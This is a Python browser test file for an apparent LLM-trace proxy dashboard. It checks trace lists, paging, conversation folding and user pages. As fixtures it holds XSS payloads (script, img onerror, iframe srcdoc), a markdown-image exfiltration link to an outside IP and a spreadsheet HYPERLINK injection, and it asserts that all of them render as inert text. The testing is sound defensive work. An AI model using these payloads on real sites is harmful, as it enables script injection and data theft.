"""The traces list you can scan, in a real browser: the previews of what was asked and answered
(hostile ones shown as text, never HTML), the error message of a failure, the stream marker, the
total count and the page-size choice."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from prysmai._proxy.store import Store, TraceFilter, queries

from .. import browser as b
from ..api.test_download import AUTH, fill, make_rows
from ..conftest import KEY, FakeUpstream

pytestmark = pytest.mark.timeout(240)

OUTSIDE = "http://203.0.113.9"
HOSTILE = [
    "<script>window.__pwned='script'</script>",
    "<img src=x onerror=\"window.__pwned='img'\">",
    f"![exfil]({OUTSIDE}/leak?d=secret) <iframe srcdoc=\"<script>parent.__pwned='iframe'</script>\">",
    '=HYPERLINK("http://203.0.113.9")',
]


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    yield from b.launch()


def test_the_list_shows_previews_errors_streams_and_a_total_as_text(
    chromium: Any, tmp_path: Any, fake: FakeUpstream, start_proxy: Any
) -> None:
    rows = make_rows(120)
    for i, row in enumerate(rows):
        row["prompt_preview"] = HOSTILE[i % len(HOSTILE)] + f" #{i}"
        row["answer_preview"] = None if i % 5 == 0 else HOSTILE[(i + 1) % len(HOSTILE)]
        row["error"] = f"upstream said <b>no</b> #{i}" if row["status"] == "error" else None
    path = str(tmp_path / "traces.db")
    fill(path, rows)
    proxy = start_proxy(fake.url, db_path=path)
    base = proxy.server.url
    context = chromium.new_context(viewport=b.DESKTOP)
    page = context.new_page()
    requests: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    b.login(page, base, KEY, "/traces?since=all")
    api = httpx.get(f"{proxy.base_url}/traces", params={"since": "all"}, headers=AUTH).json()
    assert api["total"] == 120 and api["total_exact"] is True
    assert page.text_content("#traces-total") == "120 trace(s) match"
    table = page.locator("#traces-table tbody tr")
    assert table.count() == 50
    for i, trace in enumerate(api["data"]):
        tr = table.nth(i)
        assert tr.locator("[data-preview=prompt]").text_content() == trace["prompt_preview"]
        if trace["status"] == "error":
            assert tr.locator("[data-preview=error]").text_content() == trace["error"]
        else:
            want = trace["answer_preview"] or "\u2013"
            assert tr.locator("[data-preview=answer]").text_content() == want
        assert tr.locator("[data-stream]").count() == (1 if trace["stream"] else 0)
    assert any(t["status"] == "error" for t in api["data"]) and any(t["stream"] for t in api["data"])
    assert page.evaluate("window.__pwned") is None and not dialogs
    assert page.evaluate("document.querySelectorAll('main img, main iframe, main script').length") == 0
    b.screenshot(page, "traces-previews")

    # A page size: 25 rows, from the first page, the filters kept.
    page.select_option("#page-size", "25")
    b.wait_ready(page)
    assert "limit=25" in page.url and "since=all" in page.url
    assert page.locator("#traces-table tbody tr").count() == 25
    assert all(u.startswith(base + "/") for u in requests), [u for u in requests if not u.startswith(base)]
    context.close()


def test_a_total_past_the_bound_is_more_than(tmp_path: Any) -> None:
    path = str(tmp_path / "t.db")
    fill(path, make_rows(30))
    store = Store.existing(path, read_time_limit=None)
    assert store is not None
    with store:
        assert store.read_sync(queries.count_traces, TraceFilter(), 10) == (10, False)
        assert store.read_sync(queries.count_traces, TraceFilter(), 30) == (30, True)
        assert store.read_sync(queries.count_traces, TraceFilter(model="o3")) == (
            sum(r["model"] == "o3" for r in make_rows(30)),
            True,
        )


def test_the_trace_page_walks_its_list_and_folds_a_long_conversation(
    chromium: Any, tmp_path: Any, fake: FakeUpstream, start_proxy: Any
) -> None:
    rows = make_rows(12)
    long_chat = [{"role": "system", "content": "be brief"}]
    for turn in range(10):
        long_chat += [
            {"role": "user", "content": f"question {turn}"},
            {"role": "assistant", "content": f"reply {turn}"},
        ]
    long_chat.append({"role": "user", "content": "<b>last</b> question"})
    rows[4]["request_body"] = json.dumps({"model": "o3", "messages": long_chat})
    path = str(tmp_path / "traces.db")
    fill(path, rows)
    proxy = start_proxy(fake.url, db_path=path)
    base = proxy.server.url
    listed = httpx.get(
        f"{proxy.base_url}/traces", params={"since": "all", "sort": "latency", "order": "asc"}, headers=AUTH
    ).json()["data"]
    ids = [t["id"] for t in listed]
    page = chromium.new_context(viewport=b.DESKTOP).new_page()
    b.login(page, base, KEY, "/traces?since=all&sort=latency&order=asc")
    page.locator("#traces-table tbody tr").nth(1).locator("a").first.click()
    b.wait_ready(page)
    assert page.url.startswith(f"{base}/traces/{ids[1]}?") and "list=1" in page.url
    page.wait_for_selector("#trace-next")
    assert page.get_attribute("#trace-previous", "href").startswith(f"/traces/{ids[0]}?")  # type: ignore[union-attr]
    for i in range(2, 6):  # along the list, in its order
        page.click("#trace-next")
        b.wait_ready(page)
        page.wait_for_selector("#trace-next")
        assert page.url.startswith(f"{base}/traces/{ids[i]}?"), (i, page.url)
    page.click("#trace-nav a")  # back to the list, its filters and order kept
    b.wait_ready(page)
    assert page.url == f"{base}/traces?since=all&sort=latency&order=asc"

    # The long conversation: the answer first, the middle folded with its count, open on a click.
    b.goto(page, f"{base}/traces/{rows[4]['id']}")
    assert page.locator("#trace-nav").count() == 0  # not opened from a list
    order = page.evaluate("[...document.querySelectorAll('.detail-main > section')].map(s => s.id)")
    assert order[:2] == ["response", "request"]
    fold = page.locator("#folded")
    assert fold.get_attribute("data-count") == str(len(long_chat) - 4)
    assert "earlier messages" in fold.locator("summary").text_content()  # type: ignore[operator]
    assert not page.locator("#folded .msg").first.is_visible()
    shown = page.locator("#request > .msg").evaluate_all("ms => ms.map(m => m.innerText)")
    assert "be brief" in shown[0] and "<b>last</b> question" in shown[-1]
    page.click("#folded summary")
    assert page.locator("#folded .msg").first.is_visible()
    assert page.locator("#request .msg").count() == len(long_chat)
    page.context.close()


def test_sessions_and_users_sort_and_search_and_a_user_has_a_page(
    chromium: Any, tmp_path: Any, fake: FakeUpstream, start_proxy: Any
) -> None:
    rows = make_rows(90)
    for i, row in enumerate(rows):
        row["user_id"] = ["ann", "bob", "<img src=x onerror=alert(1)>cy"][i % 3] if i % 10 else "ann"
        row["session_id"] = f"s-{i % 7}"
        row["cost_usd"] = 0.001 * (i % 5)
    path = str(tmp_path / "traces.db")
    fill(path, rows)
    proxy = start_proxy(fake.url, db_path=path)
    base = proxy.server.url

    def listed(route: str, **params: str) -> list[Any]:
        doc = httpx.get(f"{proxy.base_url}/{route}", params={"since": "all", **params}, headers=AUTH).json()
        return list(doc["data"])

    by_requests = listed("users", sort="requests")
    assert [u["requests"] for u in by_requests] == sorted((u["requests"] for u in by_requests), reverse=True)
    assert by_requests[0]["user_id"] == "ann"
    # Paging a sorted list: every user once, in order.
    first = httpx.get(
        f"{proxy.base_url}/sessions",
        params={"since": "all", "sort": "cost", "order": "asc", "limit": "3"},
        headers=AUTH,
    ).json()
    rest = httpx.get(
        f"{proxy.base_url}/sessions",
        params={"since": "all", "sort": "cost", "order": "asc", "cursor": first["next_cursor"]},
        headers=AUTH,
    ).json()
    paged = first["data"] + rest["data"]
    assert sorted(s["session_id"] for s in paged) == [f"s-{i}" for i in range(7)]
    assert [s["cost_usd"] for s in paged] == sorted(s["cost_usd"] for s in paged)
    assert [u["user_id"] for u in listed("users", search="IMG")] == ["<img src=x onerror=alert(1)>cy"]
    assert listed("users", search="%") == [] and listed("sessions", search="s_1") == []
    bad = httpx.get(f"{proxy.base_url}/users", params={"sort": "mood"}, headers=AUTH)
    assert bad.status_code == 400 and bad.json()["error"]["param"] == "sort"

    page = chromium.new_context(viewport=b.DESKTOP).new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    b.login(page, base, KEY, "/users?since=all")
    page.click("a[data-sort=requests]")
    b.wait_ready(page)
    assert "sort=requests" in page.url
    names = page.locator("#users-table tbody tr td:first-child").all_text_contents()
    assert names == [u["user_id"] for u in by_requests]
    page.fill("#search", "img")
    page.click("#search-form button")
    b.wait_ready(page)
    assert page.locator("#users-table tbody tr td:first-child").all_text_contents() == [
        "<img src=x onerror=alert(1)>cy"
    ]
    # The user's page: totals, spend and errors over time, their sessions.
    page.click("#users-table tbody tr td:first-child a")
    b.wait_ready(page)
    page.wait_for_selector("#user-cards")
    user = "<img src=x onerror=alert(1)>cy"
    assert page.url.split("?")[0] == f"{base}/users/%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3Ecy"
    assert page.text_content("h1") == "User " + user
    overview = httpx.get(f"{proxy.base_url}/overview", params={"since": "all", "user": user}, headers=AUTH).json()
    assert page.text_content("[data-metric=requests] .card-value") == str(overview["overview"]["requests"])
    assert page.text_content("[data-metric=errors] .card-value") == str(overview["overview"]["errors"])
    assert (
        page.locator("[data-chart=user-spend]").count() == 1 and page.locator("[data-chart=user-requests]").count() == 1
    )
    sessions = listed("sessions", user=user)
    assert page.locator("#user-sessions tbody tr td:first-child").all_text_contents() == [
        s["session_id"] for s in sessions
    ]
    assert not dialogs and page.evaluate("document.querySelectorAll('main img').length") == 0
    page.context.close()


def test_previous_page_returns_exactly_to_the_page_before_and_back_does_too(
    chromium: Any, tmp_path: Any, fake: FakeUpstream, start_proxy: Any
) -> None:
    """Three pages forward by "next page", then back by "previous page" to each page exactly (its
    rows, in order), then the browser's back and forward buttons over the same pages; a trace
    opened on page 2 walks the whole list (its previous is the last row of page 1)."""
    rows = make_rows(23)
    for i, row in enumerate(rows):
        row["latency_ms"] = 1000.0 - i * 7  # a sort where time order would not do
    path = str(tmp_path / "traces.db")
    fill(path, rows)
    proxy = start_proxy(fake.url, db_path=path)
    base = proxy.server.url
    whole = httpx.get(
        f"{proxy.base_url}/traces",
        params={"since": "all", "sort": "latency", "order": "asc", "limit": "100"},
        headers=AUTH,
    ).json()["data"]
    expected = [[t["id"] for t in whole[i : i + 8]] for i in (0, 8, 16)]
    assert [len(p) for p in expected] == [8, 8, 7]
    page = chromium.new_context(viewport=b.DESKTOP).new_page()
    b.login(page, base, KEY, "/traces?since=all&sort=latency&order=asc&limit=8")

    def shown() -> list[str]:
        hrefs = page.eval_on_selector_all(
            "#traces-table tbody tr td:first-child a", "as => as.map(a => a.getAttribute('href'))"
        )
        return [h.split("?")[0].removeprefix("/traces/") for h in hrefs]

    def click(selector: str) -> None:
        page.click(selector)
        b.wait_ready(page)

    assert shown() == expected[0]
    assert page.locator("#previous-page, #first-page").count() == 0
    urls = [page.url]
    click("#next-page")
    assert shown() == expected[1]
    urls.append(page.url)
    click("#next-page")
    assert shown() == expected[2] and page.locator("#next-page").count() == 0
    urls.append(page.url)
    assert "sort=latency" in page.url and "limit=8" in page.url
    click("#previous-page")
    assert shown() == expected[1] and page.url == urls[1]
    click("#previous-page")
    assert shown() == expected[0] and page.locator("#previous-page").count() == 0
    # The browser's own buttons walk the same pages.
    click("#next-page")
    click("#next-page")
    assert shown() == expected[2]
    page.go_back()
    b.wait_ready(page)
    assert shown() == expected[1]
    page.go_back()
    b.wait_ready(page)
    assert shown() == expected[0]
    page.go_forward()
    b.wait_ready(page)
    assert shown() == expected[1]
    # A new order starts from the first page, without the pages behind.
    click("a[data-sort=cost]")
    assert "cursor=" not in page.url and "prev=" not in page.url

    # From page 2, a trace walks the list across the pages' edges, and back to its list.
    b.goto(page, urls[1])
    page.locator("#traces-table tbody tr").first.locator("a").first.click()
    b.wait_ready(page)
    page.wait_for_selector("#trace-next")
    assert page.url.startswith(f"{base}/traces/{expected[1][0]}?")
    assert page.get_attribute("#trace-previous", "href").startswith(f"/traces/{expected[0][-1]}?")  # type: ignore[union-attr]
    page.click("#trace-previous")
    b.wait_ready(page)
    page.wait_for_selector("#trace-next")
    assert page.url.startswith(f"{base}/traces/{expected[0][-1]}?")
    for i in range(8, 10):
        page.click("#trace-next")
        b.wait_ready(page)
        page.wait_for_selector("#trace-next")
        assert page.url.startswith(f"{base}/traces/{whole[i]['id']}?"), (i, page.url)
    page.context.close()
